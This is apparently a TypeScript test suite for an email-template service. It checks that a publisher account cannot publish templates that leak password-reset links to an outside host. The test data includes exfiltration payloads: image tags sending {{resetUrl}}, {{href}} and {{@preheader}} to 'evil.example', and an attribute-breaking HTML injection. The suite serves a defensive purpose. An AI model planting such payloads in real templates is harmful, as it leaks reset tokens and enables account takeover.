import { expect } from 'chai';
import { createApiTransport } from '../../server/mail/providers/postmark/api-transport.ts';
import { testDatabase } from '../support/database.ts';
import { useOneSandbox } from '../support/sandbox.ts';
import { until } from '../support/until.ts';
import { type AccessApp, type Browser, openAccessApp } from './access-app.ts';
import { fieldsIn } from './template-desk.ts';

const evil = 'https://evil.example/?x=';
const pixel = (field: string) => `<p>\n<img alt="" src="${evil}${field}">\n</p>`;
const html = 'locales[default][html]';
const text = 'locales[default][text]';

describe('a publisher who is after the links of others', () => {
  const { sandbox } = useOneSandbox({ deliveryMs: 1 });
  let opened: AccessApp;
  let eve: Browser;

  beforeEach(async () => {
    const transport = createApiTransport({ token: sandbox.token, url: sandbox.apiUrl, timeoutMs: 5000 });
    opened = await openAccessApp({}, { transports: [transport] });
    await opened.account('root@example.com', 'admin');
    await opened.account('eve@example.com', 'publisher');
    eve = await opened.signedIn('eve@example.com');
  });
  afterEach(() => opened.mail.close());

  /** Saves a draft with changes and publishes it; the page that came of it. */
  const publish = async (name: string, changes: Record<string, string>) => {
    const path = `/templates/${name}`;
    const form = { ...fieldsIn((await eve.get(path)).text), ...changes };
    const saved = await eve.post(`${path}/draft`, form);
    expect(saved.status, `${name}: ${saved.text}`).to.equal(303);
    const { revision = '' } = fieldsIn((await eve.get(path)).text);
    const answer = await eve.post(`${path}/publication`, {
      revision,
      message: 'Brighter',
      acceptWarnings: 'yes',
    });
    return answer.status === 303 ? '' : answer.text;
  };

  const received = async (address: string) => {
    await until('the mail', async () => sandbox.messages.last()?.to[0]?.Email === address || 'none');
    await sandbox.idle();
    const { html: page = '', text: words = '' } = (await sandbox.content(address)) ?? {};
    return `${page}\n${words}`;
  };

  it('is refused in words, with the line, whatever he edits', async () => {
    const tries: [name: string, changes: Record<string, string>, place: RegExp][] = [
      ['password-reset', { [html]: pixel('{{resetUrl}}') }, /resetUrl stands in the attribute src/],
      ['password-reset', { [text]: `${evil}{{resetUrl}}` }, /resetUrl is written together with an address/],
      ['partial:button', { [html]: pixel('{{href}}') }, /href stands in the attribute src/],
      [
        'layout:default',
        { [html]: `${pixel('{{@preheader}}')}{{> content}}` },
        /@preheader stands in the attribute src/,
      ],
    ];
    for (const [name, changes, place] of tries) {
      const refused = await publish(name, changes);
      expect(refused, name)
        .to.match(place)
        .and.match(/In a confidential template a field is/);
      expect(refused, name).to.match(/line [123]\b/);
    }
    await opened.mail.send({
      template: 'password-reset',
      to: 'ada@mail.example',
      data: { resetUrl: 'https://shop.example/reset/1', expiresInMinutes: 30 },
    });
    expect(await received('ada@mail.example'))
      .to.contain('https://shop.example/reset/1')
      .and.not.contain('evil.example');
  }).timeout(120_000);

  it('does not get the link of an admin by "forgotten password"', async () => {
    // All that he may publish, he publishes; none of it is in mail to accounts.
    expect(await publish('brand:default', { 'values[0][value]': `"><img src="${evil}` })).to.be.a('string');
    expect(await publish('order-shipped', { [html]: '<p>Evil</p>' })).to.equal('');
    await publish('layout:default', { [html]: '<p>Evil</p>{{> content}}' });
    await opened.browser().post('/forgotten-password', { email: 'root@example.com' });
    const mail = await received('root@example.com');
    const addresses = mail.match(/[a-z]+:\/\/[^\s"<]+/g) ?? [];
    expect(new Set(addresses.map(address => new URL(address).host))).to.deep.equal(new Set(['127.0.0.1']));
    expect(mail)
      .to.match(/\/invitation\/[\w-]{43}/)
      .and.not.match(/evil/i);
    const message = sandbox.messages.last();
    expect([message?.trackLinks, message?.trackOpens]).to.deep.equal(['None', false]);

    // Nor anywhere that he may look.
    const [, token = ''] = /\/invitation\/([\w-]{43})/.exec(mail) ?? [];
    const { messages } = await opened.mail.messages.find({ recipient: 'root@example.com' });
    for (const path of [`/messages/${messages[0]?.id}`, '/messages', '/audit', '/jobs'])
      expect((await eve.get(path)).text, path).not.to.contain(token);
    for (const table of await tables()) {
      const rows = JSON.stringify(await testDatabase()(table).select());
      expect(rows, table).not.to.contain(token);
    }
  }).timeout(120_000);
});

async function tables(): Promise<string[]> {
  const [rows] = await testDatabase().raw("SHOW TABLES LIKE 'postlane%'");
  return (rows as Record<string, string>[]).flatMap(row => Object.values(row));
}
